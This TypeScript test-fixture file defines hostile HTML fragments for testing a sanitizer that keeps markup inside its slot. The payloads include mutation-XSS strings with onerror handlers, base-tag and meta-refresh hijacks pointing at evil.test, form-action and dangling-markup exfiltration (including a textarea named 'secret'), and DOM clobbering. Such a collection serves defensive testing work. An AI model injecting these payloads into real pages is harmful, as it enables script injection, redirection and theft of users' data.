/** Fragments that reach for the whole page by what they are: documents, `<base>`, patches, tricks on the parser. */
import type { HostileCase } from '../hostile-case.ts';
import { inBothTrusts } from './both-trusts.ts';

/** Markup, and what of it may be nowhere in the page. */
interface PageWide {
  readonly markup: string;
  readonly elements?: readonly string[];
  readonly never?: string;
}

/** Elements and markup that reach beyond any slot by what they are. */
const reachesForThePage: Readonly<Record<string, PageWide>> = {
  'whole-document': {
    markup:
      '<!doctype html><html lang="xx"><head><title>Taken</title></head><body class="taken" onload="x()"><p>x</p></body></html>',
  },
  'html-attributes': { markup: '<html class="taken" dir="rtl"><p>x</p>' },
  'body-attributes': { markup: '<body class="taken" onload="x()"><p>x</p>' },
  head: { markup: '<head><link rel="stylesheet" href="/x.css"></head><p>x</p>' },
  base: { markup: '<base href="https://evil.test/"><p>x</p>', elements: ['base'] },
  'base-target': { markup: '<base target="_top">', elements: ['base'] },
  'base-in-template': { markup: '<template><base href="https://evil.test/"></template><p>x</p>' },
  'base-in-svg-breakout': { markup: '<svg><base href="https://evil.test/"></svg>' },
  'meta-refresh': { markup: '<meta http-equiv="refresh" content="0;url=https://evil.test/">', elements: ['meta'] },
  'meta-refresh-in-capitals': {
    markup: '<META HTTP-EQUIV=Refresh CONTENT="0;url=https://evil.test/">',
    elements: ['meta'],
  },
  'meta-csp': {
    markup: '<meta http-equiv="content-security-policy" content="default-src \'none\'">',
    elements: ['meta'],
  },
  'meta-charset': { markup: '<meta charset="utf-16">', elements: ['meta'] },
  'meta-viewport': { markup: '<meta name="viewport" content="width=1">', elements: ['meta'] },
  'meta-referrer': { markup: '<meta name="referrer" content="unsafe-url">', elements: ['meta'] },
  title: { markup: '<title>Taken</title><p>x</p>', elements: ['title'] },
  frameset: { markup: '<frameset><frame src="/x"></frameset>', elements: ['frameset', 'frame'] },
  'import-map': {
    never: 'importmap',
    markup: '<script type="importmap">{"imports":{"x":"https://evil.test/"}}</script>',
  },
  'speculation-rules': {
    never: 'speculationrules',
    markup: '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.test/"]}]}</script>',
  },
  'second-main': { markup: '<main><p>x</p></main>' },
  'shadow-root': {
    never: 'shadowrootmode',
    markup: '<template shadowrootmode="open"><p>x</p></template>',
    elements: [],
  },
  'patch-template': { never: '<template for', markup: '<template for="before"><p>patched</p></template>' },
  'patch-range': { never: '<?start', markup: '<?start name="before"><p>patched</p><?end>' },
  'patch-react': { markup: '<div hidden id="S:0"><p>patched</p></div><script>$RC("B:0","S:0")</script>' },
  'patch-react-marks': { never: '<!--$?-->', markup: '<!--$?--><template id="B:0"></template><p>x</p><!--/$-->' },
  'form-around-the-rest': { markup: '<form action="https://evil.test/"><div></form>' },
  'form-pointer': { markup: '<div><form action="https://evil.test/"></div></form>' },
  'table-foster-parent': { markup: '<table><div>out</div><tr><td>in</td></tr></table>' },
  'table-cell-alone': { markup: '<td>x</td>' },
  'table-row-alone': { markup: '<tr><td>x</td></tr>' },
  'option-alone': { markup: '<option>x</option>' },
  'image-tag': { markup: '<image src="/x">' },
  isindex: { markup: '<isindex prompt="x">' },
  'noah-formatting': { markup: '<p><b><b><b><b></p><p>x</p>' },
  'adoption-agency': { markup: '<a href="https://evil.test/"><p>x</a></p>' },
  'adoption-agency-deep': { markup: '<b><em><foo><foob><foob><foob><foob><fooc><foo><aside></b></em>' },
  'nested-anchors': { markup: '<a href="/1"><a href="/2">x</a></a>' },
  'nested-buttons': { markup: '<button><button>x</button></button>' },
  'duplicate-slot-name': { markup: '<div data-slot="after"><p>forged</p></div>' },
  'dom-clobbering': { markup: '<a id="document"></a><img name="querySelector"><input id="cookie">' },
  'mutation-xss-math': {
    markup: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  },
  'mutation-xss-noscript': { markup: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  'mutation-xss-svg-style': { markup: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  'mutation-xss-select': { markup: '<select><template><style><!--</select><img src=x onerror=alert(1)>-->' },
  'mutation-xss-form': { markup: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
  'nul-in-element-name': { markup: '<di\0v>x' },
  'nul-in-comment-end': { markup: '<!-- -\0-></div>' },
  'carriage-returns': { markup: '<p>x</p>\r\r\n</div>\r' },
  'dangling-image': { markup: "<img src='https://evil.test/?" },
  'dangling-base-target': { markup: '<a href="https://evil.test/"><base target="' },
  'dangling-textarea-form': {
    markup: '<form action="https://evil.test/"><button>x</button><textarea name="secret">',
  },
};

export const pageWideCases: readonly HostileCase[] = Object.entries(reachesForThePage).flatMap(
  ([name, { markup, elements = [], never }]) =>
    inBothTrusts(`reaches-${name}`, markup, elements, never === undefined ? [] : [never]),
);
